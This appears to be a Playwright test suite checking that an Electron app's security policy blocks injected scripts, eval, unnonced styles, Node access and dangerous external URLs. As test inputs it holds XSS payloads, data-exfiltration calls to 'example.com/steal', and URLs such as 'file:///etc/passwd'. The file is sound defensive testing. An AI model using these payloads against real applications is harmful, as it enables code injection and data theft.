import type { Page } from '@playwright/test'
import { expect, test } from './support/app.ts'
import { serviceOf } from './support/services.ts'

/** Tries to break out of the page. What the policy blocks here is meant to be blocked. */
test.use({ expectsBlocked: true, together: true })

const library = (page: Page) => page.getByRole('heading', { name: 'Your skills will be listed here' })

test.beforeEach(async ({ app }) => {
  await expect(library(app.page)).toBeVisible()
})

test.describe('a script that got into the page', () => {
  test('does not run as an element, a handler, an address or text', async ({ app }) => {
    const blocked = await app.page.evaluate(async () => {
      const seen: string[] = []
      const next = () =>
        new Promise<void>(resolve =>
          document.addEventListener(
            'securitypolicyviolation',
            event => {
              seen.push(event.effectiveDirective)
              resolve()
            },
            { once: true },
          ),
        )
      const put = async (html: string, then?: (element: HTMLElement) => void) => {
        const violated = next()
        const place = document.createElement('div')
        place.append(document.createRange().createContextualFragment(html))
        document.body.append(place)
        const [first] = place.children
        if (first instanceof HTMLElement) then?.(first)
        await violated
        place.remove()
      }
      await put('<script>window.broken = 1</script>')
      await put('<img src="data:," onerror="window.broken = 2">')
      await put('<a href="javascript:window.broken = 3">x</a>', link => link.click())
      await put('<script src="data:text/javascript,window.broken = 4"></script>')
      await put('<script src="https://example.com/x.js"></script>')
      return seen
    })
    expect(blocked).toEqual([
      'script-src-elem',
      'script-src-attr',
      'script-src-elem',
      'script-src-elem',
      'script-src-elem',
    ])
    expect(await app.page.evaluate(() => Reflect.get(window, 'broken'))).toBeUndefined()
  })

  test('cannot make code of text', async ({ app }) => {
    // Not called by the debugger, which the policy does not hold: by a message.
    const outcome = await app.page.evaluate(
      () =>
        new Promise<string[]>(resolve => {
          const { port1, port2 } = new MessageChannel()
          port1.onmessage = () => {
            const tries = [() => Reflect.get(window, 'eval')('1'), () => Reflect.construct(Function, ['return 1'])()]
            resolve(
              tries.map(run => {
                try {
                  return String(run())
                } catch (error) {
                  return error instanceof Error ? error.name : 'other'
                }
              }),
            )
          }
          port2.postMessage(null)
        }),
    )
    expect(outcome).toEqual(['EvalError', 'EvalError'])
  })

  test('reaches no network', async ({ app }) => {
    const blocked = await app.page.evaluate(async () => {
      const seen: string[] = []
      const violated = (start: () => void) =>
        new Promise<void>(resolve => {
          document.addEventListener(
            'securitypolicyviolation',
            event => {
              seen.push(`${event.effectiveDirective} ${new URL(event.blockedURI).host}`)
              resolve()
            },
            { once: true },
          )
          start()
        })
      await violated(() => void fetch('https://example.com/steal').catch(() => {}))
      await violated(() => {
        new Image().src = 'https://example.com/steal.png'
      })
      await violated(() => navigator.sendBeacon('https://example.com/steal', 'x'))
      await violated(() => {
        try {
          new WebSocket('wss://example.com/steal')
        } catch {
          // Some browsers throw besides.
        }
      })
      await violated(() => {
        const frame = document.createElement('iframe')
        frame.src = 'https://example.com/'
        document.body.append(frame)
      })
      return seen
    })
    const directives = ['connect-src', 'img-src', 'connect-src', 'connect-src', 'frame-src']
    expect(blocked).toEqual(directives.map(directive => `${directive} example.com`))
  })

  test('a style without the nonce changes nothing; one with it does', async ({ app }) => {
    const colours = await app.page.evaluate(() => {
      const nonce = document.querySelector<HTMLElement>('meta[property="csp-nonce"]')?.nonce ?? ''
      const probe = document.createElement('p')
      document.body.append(probe)
      return [undefined, 'guessed', nonce].map(value => {
        const style = document.createElement('style')
        if (value !== undefined) style.nonce = value
        style.textContent = 'p { color: rgb(1, 2, 3) !important }'
        document.head.append(style)
        const { color } = getComputedStyle(probe)
        style.remove()
        return color
      })
    })
    expect(colours[0]).not.toBe('rgb(1, 2, 3)')
    expect(colours[1]).not.toBe('rgb(1, 2, 3)')
    expect(colours[2]).toBe('rgb(1, 2, 3)')
  })

  test('sees nothing of Node or Electron', async ({ app }) => {
    const names = await app.page.evaluate(() =>
      ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer', '__dirname'].filter(
        name => name in window,
      ),
    )
    expect(names).toEqual([])
  })

  test('a frame made by srcdoc shows its text and runs nothing', async ({ app }) => {
    await app.page.evaluate(() => {
      const frame = document.createElement('iframe')
      frame.setAttribute('sandbox', '')
      frame.title = 'probe'
      frame.srcdoc = '<p>words</p><script>parent.broken = 1; document.body.textContent = "ran"</script>'
      document.body.append(frame)
    })
    await expect(app.page.frameLocator('iframe[title=probe]').getByText('words')).toBeVisible()
    expect(await app.page.evaluate(() => Reflect.get(window, 'broken'))).toBeUndefined()
  })

  test('opens nothing but https in the system', async ({ app }) => {
    await app.electron?.evaluate(({ shell }) => {
      const opened: string[] = []
      Object.assign(globalThis, { opened })
      shell.openExternal = async address => {
        opened.push(address)
      }
    })
    const desktop = await serviceOf(app, 'desktop')
    for (const url of [
      'file:///etc/passwd',
      'javascript:alert(1)',
      'smb://host/share',
      'http://example.com/',
      'vscode://file/etc/passwd',
      'https://name:secret@example.com/',
      '\\\\host\\share',
      '',
    ]) {
      expect(await desktop.openExternal({ url }), url).toEqual({ opened: false })
    }
    if (!app.electron) return
    expect(await desktop.openExternal({ url: 'https://example.com/a' })).toEqual({ opened: true })
    expect(await app.electron.evaluate(() => Reflect.get(globalThis, 'opened'))).toEqual(['https://example.com/a'])
  })

  test('sends nonsense to a service and gets an error, not its end', async ({ app }) => {
    const desktop = await serviceOf(app, 'desktop')
    const untyped: Promise<unknown> = Reflect.apply(desktop.openExternal, undefined, [{ url: { toString: 1 } }])
    await expect(untyped).rejects.toMatchObject({ code: 'BAD_REQUEST' })
    expect((await desktop.about()).host).toBe(app.host)
  })
})
